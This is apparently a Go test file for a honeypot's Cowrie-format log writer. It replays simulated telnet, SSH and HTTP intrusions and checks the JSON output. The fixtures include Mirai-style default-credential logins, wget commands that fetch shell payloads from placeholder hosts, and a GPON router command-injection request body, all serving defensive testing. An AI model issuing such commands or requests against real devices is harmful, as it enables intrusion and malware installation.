package cowrie

import (
	"bufio"
	"bytes"
	"encoding/json"
	"net/netip"
	"os"
	"path/filepath"
	"reflect"
	"regexp"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/honeyscope/honeyscope/internal/session"
)

// clock is a fake clock: each call is 1.5 ms after the one before.
type clock struct {
	mu sync.Mutex
	t  time.Time
}

func (c *clock) now() time.Time {
	c.mu.Lock()
	defer c.mu.Unlock()
	c.t = c.t.Add(1500 * time.Microsecond)
	return c.t
}

func testELF(arch byte, filler string) []byte {
	b := make([]byte, 52)
	copy(b, "\x7fELF")
	b[4], b[5], b[6] = 1, 1, 1
	b[18] = arch
	return append(b, filler...)
}

// scripted plays sessions of every service through a hub whose sink is w
// and returns the finished sessions.
func scripted(t *testing.T, w session.Sink) []session.Session {
	t.Helper()
	c := &clock{t: time.Date(2026, 5, 1, 23, 59, 58, 0, time.UTC)}
	hub := session.NewHub(session.HubConfig{Sink: w, Now: c.now})
	dst := netip.MustParseAddr("198.51.100.7")

	// A telnet intrusion: two logins, known and unknown commands, a wget,
	// a file written in echo chunks, then replaced.
	r := hub.Open(session.Session{Sensor: "tokyo-1", Service: session.Telnet, Port: 23, Src: netip.MustParseAddr("192.0.2.10"), SrcPort: 40001, Dst: dst, Arch: "mipsel", Country: "JP"}, session.Limits{})
	r.Update(session.EventVersion, func(s *session.Session) { s.TelnetOptions = "WILL 24,DO 1,WONT 31" })
	r.Login(session.Login{Method: session.Telnet, Username: "root", Password: "xc3511"})
	r.Login(session.Login{Method: session.Telnet, Username: "root", Password: "vizxv", Success: true})
	r.Command(session.Command{Input: "enable", Known: true})
	r.Command(session.Command{Input: "/bin/busybox ECCHI", Known: true, Patterns: []string{"busybox-token"}})
	r.Command(session.Command{Input: "linuxshell", Known: false})
	r.URL(session.URL{URL: "http://203.0.113.5/bins/mpsl", Via: "wget", Target: "/tmp/mpsl"})
	r.File("/tmp/.d", "echo", testELF(8, "part1"))
	r.File("/tmp/.d", "printf", testELF(8, "part1part2"))
	r.File("/tmp/x.txt", "redirect", []byte("hello \"quoted\" <tag>\n"))
	r.AddBytes(900, 4000)
	r.Close("exit")

	// SSH: version and HASSH, keyboard-interactive success, one exec.
	r = hub.Open(session.Session{Sensor: "tokyo-1", Service: session.SSH, Port: 22, Src: netip.MustParseAddr("2001:db8::5"), SrcPort: 50000, Dst: netip.MustParseAddr("2001:db8:1::1"), Arch: "x86_64"}, session.Limits{})
	r.Update(session.EventVersion, func(s *session.Session) {
		s.ClientVersion = "SSH-2.0-Go"
		s.HASSH = "0123456789abcdef0123456789abcdef"
		s.HASSHAlgos = "curve25519-sha256,ext-info-c;aes128-ctr;hmac-sha2-256;none"
	})
	r.Login(session.Login{Method: "keyboard-interactive", Username: "admin", Password: ""})
	r.Login(session.Login{Method: "password", Username: "admin", Password: "admin", Success: true})
	r.Command(session.Command{Input: "cd /tmp; wget http://203.0.113.9/x.sh", Known: true})
	r.Close("closed")

	// HTTP: a request with a body, a URL inside it, the body kept.
	r = hub.Open(session.Session{Sensor: "tokyo-1", Service: session.HTTP, Port: 8080, Src: netip.MustParseAddr("192.0.2.11"), SrcPort: 1234, Dst: dst}, session.Limits{})
	body := []byte("cmd=wget+http://203.0.113.7/m.sh\x00\xff")
	r.Update("", func(s *session.Session) { s.ClientVersion = "Mozilla/5.0" })
	r.Request(session.Request{Method: "POST", Path: "/GponForm/diag_Form?images/", Version: "HTTP/1.1", Host: "x", Headers: "User-Agent: Mozilla/5.0\nContent-Length: 35", Body: body, BodySize: int64(len(body)), Status: 200, Patterns: []string{"gpon-diag-form"}})
	r.URL(session.URL{URL: "http://203.0.113.7/m.sh", Via: "request"})
	r.File("", "http-body", append([]byte("#!/bin/sh\n"), body...))
	r.Close("closed")

	// Generic: first bytes only.
	r = hub.Open(session.Session{Sensor: "tokyo-1", Service: session.Generic, Port: 6379, Src: netip.MustParseAddr("192.0.2.12"), SrcPort: 9, Dst: dst}, session.Limits{})
	r.FirstBytes([]byte("*1\r\n$4\r\nINFO\r\n"))
	r.FirstBytes([]byte("\x00\x01"))
	r.Close("idle")

	// Filtered: recorded only.
	r = hub.Open(session.Session{Sensor: "tokyo-1", Service: session.Telnet, Port: 2323, Src: netip.MustParseAddr("192.0.2.13"), SrcPort: 7, Dst: dst, Filtered: true, Country: "US"}, session.Limits{})
	r.Close("refused")

	fin, open := hub.Drain()
	if len(open) != 0 || len(fin) != 5 {
		t.Fatalf("%d finished, %d open", len(fin), len(open))
	}
	return fin
}

// normal clears what a log does not carry (file contents) and makes empty
// lists nil, so sessions compare with reflect.DeepEqual.
func normal(ss []session.Session) []session.Session {
	out := make([]session.Session, len(ss))
	for i, s := range ss {
		if len(s.FirstBytes) == 0 {
			s.FirstBytes = nil
		}
		s.Logins = nilIfEmpty(s.Logins)
		s.Commands = nilIfEmpty(s.Commands)
		for j := range s.Commands {
			s.Commands[j].Patterns = nilIfEmpty(s.Commands[j].Patterns)
		}
		s.Requests = nilIfEmpty(s.Requests)
		for j := range s.Requests {
			s.Requests[j].Patterns = nilIfEmpty(s.Requests[j].Patterns)
		}
		s.URLs = nilIfEmpty(s.URLs)
		s.Files = nilIfEmpty(append([]session.File(nil), s.Files...))
		for j := range s.Files {
			s.Files[j].Content = nil
		}
		out[i] = s
	}
	return out
}

func nilIfEmpty[T any](l []T) []T {
	if len(l) == 0 {
		return nil
	}
	return l
}

func TestRoundTrip(t *testing.T) {
	var buf bytes.Buffer
	w := NewWriter(&buf, WriterConfig{})
	want := scripted(t, w)
	if err := w.Close(); err != nil {
		t.Fatal(err)
	}
	if w.Dropped() != 0 {
		t.Fatalf("%d lines dropped", w.Dropped())
	}
	if n := uint64(bytes.Count(buf.Bytes(), []byte{'\n'})); n != w.Written() {
		t.Fatalf("%d lines in the output, Written says %d", n, w.Written())
	}
	if !Detect(bytes.NewReader(buf.Bytes())) {
		t.Fatal("Writer's output is not detected as a Cowrie log")
	}
	got, st, err := Read(bytes.NewReader(buf.Bytes()), "rt.json", ReadOptions{})
	if err != nil || st.Bad != 0 || st.Ignored != 0 {
		t.Fatalf("read: %v, stats %+v", err, st)
	}
	want, got = normal(want), normal(got)
	if len(got) != len(want) {
		t.Fatalf("%d sessions read back, want %d", len(got), len(want))
	}
	byID := map[string]session.Session{}
	for _, s := range got {
		byID[s.ID] = s
	}
	for _, w := range want {
		g, ok := byID[w.ID]
		if !ok {
			t.Errorf("session %s missing", w.ID)
			continue
		}
		if !reflect.DeepEqual(g, w) {
			t.Errorf("session %s (%s) read back differs:\n got %+v\nwant %+v", w.ID, w.Service, g, w)
		}
	}
}

var cowrieTime = regexp.MustCompile(`^\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d\.\d{6}Z$`)

// TestCowrieFields checks the lines against the fields and types real
// Cowrie logs have (see the shared Cowrie logs).
func TestCowrieFields(t *testing.T) {
	var buf bytes.Buffer
	w := NewWriter(&buf, WriterConfig{})
	scripted(t, w)
	w.Close()
	want := map[string][]string{
		IDConnect:       {"src_ip", "src_port", "dst_ip", "dst_port", "session", "protocol", "message", "sensor", "timestamp"},
		IDVersion:       {"version", "message"},
		IDKex:           {"hassh", "hasshAlgorithms", "kexAlgs", "encCS", "macCS", "compCS"},
		IDLoginSuccess:  {"username", "password", "message"},
		IDLoginFailed:   {"username", "password", "message"},
		IDCommandInput:  {"input", "message"},
		IDCommandFailed: {"input", "message"},
		IDFileDownload:  {"url", "destfile"},
		IDFileUpload:    {"filename", "outfile", "shasum"},
		IDClosed:        {"duration", "message"},
		IDParams:        {"arch"},
		IDHTTPRequest:   {"honeyscope_http_method", "honeyscope_http_path", "honeyscope_http_body", "honeyscope_http_status"},
		IDInput:         {"honeyscope_data"},
		IDTelnetOptions: {"honeyscope_telnet_options"},
		IDURL:           {"url", "honeyscope_via"},
	}
	seen := map[string]int{}
	sc := bufio.NewScanner(&buf)
	for sc.Scan() {
		var m map[string]any
		if err := json.Unmarshal(sc.Bytes(), &m); err != nil {
			t.Fatalf("line %q: %v", sc.Text(), err)
		}
		id, _ := m["eventid"].(string)
		seen[id]++
		for _, k := range []string{"eventid", "timestamp", "session", "src_ip", "sensor", "message"} {
			if _, ok := m[k]; !ok {
				t.Errorf("%s: no %q: %s", id, k, sc.Text())
			}
		}
		if ts, _ := m["timestamp"].(string); !cowrieTime.MatchString(ts) {
			t.Errorf("%s: timestamp %q is not Cowrie's form", id, ts)
		}
		for _, k := range want[id] {
			if _, ok := m[k]; !ok {
				t.Errorf("%s: no %q: %s", id, k, sc.Text())
			}
		}
		for k := range m {
			if !strings.HasPrefix(k, "honeyscope_") && !cowrieField[k] {
				t.Errorf("%s: field %q is neither Cowrie's nor prefixed honeyscope_", id, k)
			}
		}
		switch id {
		case IDConnect:
			if _, ok := m["src_port"].(float64); !ok {
				t.Errorf("src_port is not a number: %s", sc.Text())
			}
		case IDClosed:
			if _, ok := m["duration"].(float64); !ok {
				t.Errorf("duration is not a number: %s", sc.Text())
			}
		case IDParams:
			if m["arch"] != "linux-mips-lsb" && m["arch"] != "linux-x64-lsb" {
				t.Errorf("arch %v", m["arch"])
			}
		case IDFileUpload:
			if o, _ := m["outfile"].(string); o != "" && !regexp.MustCompile(`^samples/[0-9a-f]{2}/[0-9a-f]{2}/[0-9a-f]{64}$`).MatchString(o) {
				t.Errorf("outfile %q", o)
			}
		}
	}
	for id := range want {
		if seen[id] == 0 {
			t.Errorf("no %s line written", id)
		}
	}
	// Two unknown commands, one line each (the known ones none).
	if seen[IDCommandFailed] != 1 || seen[IDCommandInput] != 4 {
		t.Errorf("command.input %d, command.failed %d; want 4, 1", seen[IDCommandInput], seen[IDCommandFailed])
	}
	if seen[IDConnect] != 5 || seen[IDClosed] != 5 {
		t.Errorf("connect %d closed %d, want 5 each", seen[IDConnect], seen[IDClosed])
	}
}

// cowrieField are the fields of Cowrie's own that Writer uses.
var cowrieField = map[string]bool{
	"eventid": true, "timestamp": true, "session": true, "src_ip": true, "src_port": true, "dst_ip": true,
	"dst_port": true, "protocol": true, "sensor": true, "message": true, "version": true, "hassh": true,
	"hasshAlgorithms": true, "kexAlgs": true, "encCS": true, "macCS": true, "compCS": true, "arch": true,
	"username": true, "password": true, "input": true, "url": true, "filename": true, "outfile": true,
	"destfile": true, "shasum": true, "duration": true,
}

// blocked is a writer that blocks until released.
type blocked struct {
	release chan struct{}
	once    sync.Once
	mu      sync.Mutex
	buf     bytes.Buffer
}

func (b *blocked) Write(p []byte) (int, error) {
	<-b.release
	b.mu.Lock()
	defer b.mu.Unlock()
	return b.buf.Write(p)
}

func TestWriterDropsWhenFull(t *testing.T) {
	b := &blocked{release: make(chan struct{})}
	w := NewWriter(b, WriterConfig{Queue: 4})
	s := &session.Session{ID: "0011223344556677", Src: netip.MustParseAddr("192.0.2.1"), Start: time.Unix(1, 0)}
	const n = 1000
	for i := 0; i < n; i++ { // must not block although nothing is written
		w.Event(session.Event{Kind: session.EventCommand, Time: time.Unix(2, 0), Session: s, Command: &session.Command{Input: "ls", Known: true}})
	}
	if w.Dropped() == 0 {
		t.Fatal("nothing dropped with a queue of 4 and a blocked writer")
	}
	close(b.release)
	if err := w.Close(); err != nil {
		t.Fatal(err)
	}
	lines := uint64(bytes.Count(b.buf.Bytes(), []byte{'\n'}))
	if w.Written()+w.Dropped() != n || lines != w.Written() {
		t.Errorf("written %d + dropped %d != %d, or %d lines in the output", w.Written(), w.Dropped(), n, lines)
	}
	w.Event(session.Event{Kind: session.EventClosed, Session: s})
	if w.Written()+w.Dropped() != n+1 {
		t.Error("an event after Close was neither written nor counted as dropped")
	}
}

func TestWriterConcurrent(t *testing.T) {
	var buf bytes.Buffer
	w := NewWriter(&buf, WriterConfig{Queue: 1 << 16})
	var wg sync.WaitGroup
	for g := 0; g < 8; g++ {
		wg.Add(1)
		go func(g int) {
			defer wg.Done()
			s := &session.Session{ID: strings.Repeat(string(rune('a'+g)), 16), Src: netip.MustParseAddr("192.0.2.1"), Start: time.Unix(1, 0)}
			for i := 0; i < 500; i++ {
				w.Event(session.Event{Kind: session.EventLogin, Time: time.Unix(2, 0), Session: s, Login: &session.Login{Username: "u", Password: "p"}})
			}
		}(g)
	}
	wg.Wait()
	w.Close()
	if w.Written()+w.Dropped() != 4000 {
		t.Fatalf("written %d dropped %d", w.Written(), w.Dropped())
	}
	sc := bufio.NewScanner(&buf)
	n := 0
	for sc.Scan() {
		var m map[string]any
		if err := json.Unmarshal(sc.Bytes(), &m); err != nil {
			t.Fatalf("interleaved line %q: %v", sc.Text(), err)
		}
		n++
	}
	if uint64(n) != w.Written() {
		t.Errorf("%d lines, Written %d", n, w.Written())
	}
}

func TestOpenFileAppends(t *testing.T) {
	path := filepath.Join(t.TempDir(), "cowrie.json")
	s := &session.Session{ID: "0011223344556677", Src: netip.MustParseAddr("192.0.2.1"), Start: time.Unix(1, 0)}
	for i := 0; i < 2; i++ {
		w, err := OpenFile(path, WriterConfig{})
		if err != nil {
			t.Fatal(err)
		}
		w.Event(session.Event{Kind: session.EventConnect, Time: time.Unix(1, 0), Session: s})
		if err := w.Close(); err != nil {
			t.Fatal(err)
		}
	}
	fi, err := os.Stat(path)
	if err != nil {
		t.Fatal(err)
	}
	if fi.Mode().Perm()&^0o640 != 0 {
		t.Errorf("mode %v, want at most 0640", fi.Mode().Perm())
	}
	b, _ := os.ReadFile(path)
	if bytes.Count(b, []byte{'\n'}) != 2 {
		t.Errorf("after two opens: %q", b)
	}
}
